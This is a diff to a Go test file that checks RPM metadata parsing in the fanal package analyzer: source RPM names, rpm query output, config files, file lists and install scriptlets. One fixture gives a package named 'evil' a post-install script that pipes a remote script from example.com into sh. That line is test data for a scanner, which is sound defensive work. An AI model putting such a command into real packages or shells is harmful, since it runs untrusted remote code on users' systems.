@@ -4,6 +4,7 @@ import (
 	"io/ioutil"
 	"reflect"
 	"testing"
+	"time"
 
 	"github.com/knqyf263/fanal/analyzer"
 )
@@ -210,8 +211,130 @@ func TestParseRpmInfo(t *testing.T) {
 		if err != nil {
 			t.Errorf("%s : catch the error : %v", i, err)
 		}
+		for j := range pkgs {
+			if pkgs[j].InstalledAt == nil {
+				t.Errorf("%s : install time of %s is missing", i, pkgs[j].Name)
+			}
+			pkgs[j].InstalledAt = nil
+			pkgs[j].License = ""
+			pkgs[j].Homepage = ""
+			pkgs[j].Maintainer = ""
+			pkgs[j].Scripts = nil
+			pkgs[j].ConfigFiles = nil
+		}
 		if !reflect.DeepEqual(v.pkgs, pkgs) {
 			t.Errorf("[%s]\nexpected : %v\nactual : %v", i, v.pkgs, pkgs)
 		}
 	}
 }
+
+func TestParseSourceRPM(t *testing.T) {
+	var tests = map[string]struct {
+		sourceRPM string
+		name      string
+		version   string
+		wantErr   bool
+	}{
+		"Valid": {
+			sourceRPM: "rpm-4.11.3-35.el7.src.rpm",
+			name:      "rpm",
+			version:   "4.11.3-35.el7",
+		},
+		"HyphenInName": {
+			sourceRPM: "centos-release-7-1.1503.el7.centos.2.8.src.rpm",
+			name:      "centos-release",
+			version:   "7-1.1503.el7.centos.2.8",
+		},
+		"Invalid": {
+			sourceRPM: "rpm.src.rpm",
+			wantErr:   true,
+		},
+	}
+	for testName, v := range tests {
+		name, version, err := parseSourceRPM(v.sourceRPM)
+		if v.wantErr != (err != nil) {
+			t.Errorf("[%s] unexpected error: %v", testName, err)
+			continue
+		}
+		if name != v.name || version != v.version {
+			t.Errorf("[%s]\nexpected : %s %s\nactual : %s %s", testName, v.name, v.version, name, version)
+		}
+	}
+}
+
+func TestParseRPMOutput(t *testing.T) {
+	installedAt := time.Date(2019, 5, 7, 7, 24, 33, 0, time.UTC)
+	var tests = map[string]struct {
+		line string
+		pkg  analyzer.Package
+	}{
+		"Full": {
+			line: "bash\t0\t4.2.46\t31.el7\t1557213873\thttp://www.gnu.org/software/bash\tGPLv3+\tCentOS\tCentOS BuildSystem <http://bugs.centos.org>",
+			pkg: analyzer.Package{Name: "bash", Version: "4.2.46", Release: "31.el7", InstalledAt: &installedAt,
+				Homepage: "http://www.gnu.org/software/bash", License: "GPLv3+", Maintainer: "CentOS"},
+		},
+		"PackagerOnly": {
+			line: "glibc\t0\t2.17\t260.el7\t1557213873\thttp://www.gnu.org/software/glibc/\tLGPLv2+ and LGPLv2+ with exceptions and GPLv2+\t(none)\tFedora Project",
+			pkg: analyzer.Package{Name: "glibc", Version: "2.17", Release: "260.el7", InstalledAt: &installedAt,
+				Homepage: "http://www.gnu.org/software/glibc/", License: "LGPLv2+ and LGPLv2+ with exceptions and GPLv2+", Maintainer: "Fedora Project"},
+		},
+		"WithoutURL": {
+			line: "gpg-pubkey\t(none)\tf4a80eb5\t53a7ff4b\t1557213873\t(none)\tpubkey\t(none)\t(none)",
+			pkg:  analyzer.Package{Name: "gpg-pubkey", Version: "f4a80eb5", Release: "53a7ff4b", InstalledAt: &installedAt, License: "pubkey"},
+		},
+		"WithoutInstallTime": {
+			line: "bash\t0\t4.2.46\t31.el7",
+			pkg:  analyzer.Package{Name: "bash", Version: "4.2.46", Release: "31.el7"},
+		},
+	}
+	for testName, v := range tests {
+		pkg, err := parseRPMOutput(v.line)
+		if err != nil {
+			t.Errorf("%s : catch the error : %v", testName, err)
+		}
+		if !reflect.DeepEqual(v.pkg, pkg) {
+			t.Errorf("[%s]\nexpected : %v\nactual : %v", testName, v.pkg, pkg)
+		}
+	}
+}
+
+func TestParseScripts(t *testing.T) {
+	out := "bash-4.4.23-1.fc28\x1f(none)\x1f(none)\x1f(none)\x1f(none)\x1e" +
+		"evil-1.0-1\x1f(none)\x1fcurl -s https://example.com/x.sh | sh\nexit 0\x1f(none)\x1frm -rf /opt/evil\x1e"
+	expected := map[string]map[string]string{
+		"evil-1.0-1": {
+			"postin": "curl -s https://example.com/x.sh | sh\nexit 0",
+			"postun": "rm -rf /opt/evil",
+		},
+	}
+	scripts := parseScripts(out)
+	if !reflect.DeepEqual(expected, scripts) {
+		t.Errorf("\nexpected : %v\nactual : %v", expected, scripts)
+	}
+}
+
+func TestParseConfigFiles(t *testing.T) {
+	out := "bash-4.4.23-1.fc28\x1f17\t/etc/skel/.bash_logout\x1f17\t/etc/skel/.bashrc\x1f0\t/usr/bin/bash\x1f2\t/usr/share/doc/bash/README\x1f\x1e" +
+		"gpg-pubkey-f4a80eb5-53a7ff4b\x1f\x1e" +
+		"setup-2.11.4-1.fc28\x1f1\t/etc/hosts\x1f\x1e"
+	expected := map[string][]string{
+		"bash-4.4.23-1.fc28":  {"/etc/skel/.bash_logout", "/etc/skel/.bashrc"},
+		"setup-2.11.4-1.fc28": {"/etc/hosts"},
+	}
+	configFiles := parseConfigFiles(out)
+	if !reflect.DeepEqual(expected, configFiles) {
+		t.Errorf("\nexpected : %v\nactual : %v", expected, configFiles)
+	}
+}
+
+func TestParseFileLists(t *testing.T) {
+	out := "glibc-2.27-8.fc28\x1f/etc/ld.so.cache\x1f/lib64/libc-2.27.so\x1f/lib64/libc.so.6\x1f\x1e" +
+		"gpg-pubkey-f4a80eb5-53a7ff4b\x1f\x1e"
+	expected := map[string][]string{
+		"glibc-2.27-8.fc28": {"/etc/ld.so.cache", "/lib64/libc-2.27.so", "/lib64/libc.so.6"},
+	}
+	files := parseFileLists(out)
+	if !reflect.DeepEqual(expected, files) {
+		t.Errorf("\nexpected : %v\nactual : %v", expected, files)
+	}
+}